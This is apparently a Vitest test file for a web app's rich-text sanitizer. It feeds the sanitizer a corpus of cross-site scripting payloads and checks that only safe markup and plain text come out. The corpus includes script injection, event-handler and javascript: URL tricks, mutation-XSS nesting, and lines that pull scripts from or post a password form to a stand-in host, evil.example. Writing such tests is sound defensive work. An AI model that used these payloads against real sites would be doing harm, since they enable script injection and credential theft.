import { describe, expect, it } from 'vitest'
import { plainText, safeHtml } from './rich-text'

const RUN = 'alert(1)'
/** Attacks on rich text: scripts, event handlers, executable addresses, frames, styles, broken nesting. */
const PAYLOADS = [
  `<script>${RUN}</script>`,
  `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<img src=x onerror=${RUN}>`,
  `<img src="x" onerror="${RUN}"//>`,
  `<svg onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><a xlink:href="javascript:${RUN}"><text>x</text></a></svg>`,
  `<math><mi xlink:href="data:x,<script>${RUN}</script>">`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${RUN}>`,
  `<body onload=${RUN}>`,
  `<p onclick="${RUN}">hola</p>`,
  `<p onmouseover=${RUN} style=position:fixed;inset:0>hola</p>`,
  `<a href="javascript:${RUN}">x</a>`,
  `<a href="JaVaScRiPt:${RUN}">x</a>`,
  `<a href="java\nscript:${RUN}">x</a>`,
  `<a href="java\tscript:${RUN}">x</a>`,
  `<a href=" javascript:${RUN}">x</a>`,
  `<a href="&#106;avascript:${RUN}">x</a>`,
  `<a href="&#x6a;avascript&colon;${RUN}">x</a>`,
  `<a href="\u0001javascript:${RUN}">x</a>`,
  `<a href="vbscript:msgbox(1)">x</a>`,
  `<a href="data:text/html,<script>${RUN}</script>">x</a>`,
  `<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>`,
  `<a href="//evil.example">x</a>`,
  `<a href="https://a.example" onclick="${RUN}">x</a>`,
  `<a href="https://a.example" style="position:fixed">x</a>`,
  `<iframe src="javascript:${RUN}"></iframe>`,
  `<iframe srcdoc="<script>${RUN}</script>"></iframe>`,
  `<object data="javascript:${RUN}"></object>`,
  `<embed src="javascript:${RUN}">`,
  `<form action="https://evil.example"><input name=password><button>Entrar</button></form>`,
  `<style>*{background:url(javascript:${RUN})}</style>`,
  `<div style="width:expression(${RUN})">x</div>`,
  `<link rel=stylesheet href=//evil.example/x.css>`,
  `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
  `<base href="//evil.example/">`,
  `<template><script>${RUN}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<textarea></textarea><img src=x onerror=${RUN}>`,
  `<xmp><script>${RUN}</script></xmp>`,
  `<svg><textarea><img src=x onerror=${RUN}></textarea></svg>`,
  `<textarea></textarea/><img src=x onerror=${RUN}>`,
  `<p><noscript></p><img src=x onerror=${RUN}></noscript>`,
  `<svg><a><animate attributeName=href values="javascript:${RUN}" /><text>x</text></a></svg>`,
  `<!--><script>${RUN}</script>-->`,
  `<![CDATA[<script>${RUN}</script>]]>`,
  `<p><b><i>hola<script>${RUN}</script></p>`,
  `<video><source onerror=${RUN}></video>`,
  `<span style="position:fixed">x</span>`,
  `<span data-type="mention" data-id="u1&quot; onclick=&quot;${RUN}" onclick="${RUN}">@x</span>`,
  `<span data-type="mention" data-id="u1" onclick="${RUN}" style="inset:0">@x</span>`,
  `<details open ontoggle=${RUN}>x</details>`,
]

const ALLOWED =
  /^(?:<\/?(?:p|br|strong|b|em|i|u|ul|ol|li|a)(?: \/)?>|<a href="(?:https?:|mailto:|tel:)[^"<>]*"(?: rel="[^"]*")?(?: target="_blank")?>|<a(?: rel="[^"]*")?(?: target="_blank")?>|<span data-type="mention" data-id="[\w-]+">|<\/span>|[^<>])*$/

describe('rich text (T53; V1.3.1, V1.3.5)', () => {
  it('covers the whole corpus', () => {
    expect(PAYLOADS.length).toBeGreaterThanOrEqual(40)
  })

  it.each(PAYLOADS)('%j comes out as nothing but paragraphs, emphasis, lists and links', payload => {
    const clean = safeHtml(`<p>antes</p>${payload}`)
    expect(clean).toMatch(ALLOWED)
    expect(clean).toContain('<p>antes</p>')
    expect(safeHtml(clean)).toBe(clean)
  })

  it('keeps what the editor produces', () => {
    const made =
      '<p><strong>Hola</strong> <em>y</em> <u>adiós</u><br />fin</p><ul><li>uno</li></ul><ol><li>dos</li></ol>'
    expect(safeHtml(made)).toBe(made)
    const mention = '<span data-type="mention" data-id="0f1e">@Ana Gil</span>'
    expect(safeHtml(mention)).toBe(mention)
    expect(safeHtml('<span class="x">a <b>b</b></span>')).toBe('a <b>b</b>')
    const link = safeHtml('<a href="https://a.example/x?y=1" rel="opener" target="_top">x</a>')
    expect(link).toContain('href="https://a.example/x?y=1"')
    for (const kept of ['rel="noopener noreferrer nofollow"', 'target="_blank"']) {
      expect(link).toContain(kept)
      expect(safeHtml(link)).toContain(kept)
    }
  })

  it('text is stored as it was typed and never decoded again (V1.1.1)', () => {
    for (const text of ['<p>%252e%252e%252f</p>', '<p>&amp;lt;script&amp;gt;</p>', '<p>&amp;amp;</p>']) {
      expect(safeHtml(text)).toBe(text)
    }
    expect(plainText('<p>&amp;lt;b&amp;gt;</p>')).toBe('&lt;b&gt;')
  })

  it.each(PAYLOADS)('%j is plain text in an e-mail', payload => {
    expect(plainText(safeHtml(`<p>antes</p>${payload}`))).toMatch(/^antes/)
    expect(plainText(safeHtml(payload))).not.toMatch(/<\/?[a-z]/i)
  })

  it('takes a million spaces in its stride, where a pattern that tries each of them anew would take an hour', () => {
    expect(plainText(`a${' '.repeat(1_000_000)}b`)).toMatch(/^a +b$/)
    expect(plainText(`<p>a${' '.repeat(1_000)}</p><p> </p><p> b</p>`)).toBe('a\nb')
  })

  it('takes as long for each paragraph, however many there are', () => {
    expect(plainText('<div><p>a</p></div>'.repeat(200_000))).toHaveLength(399_999)
  })
})
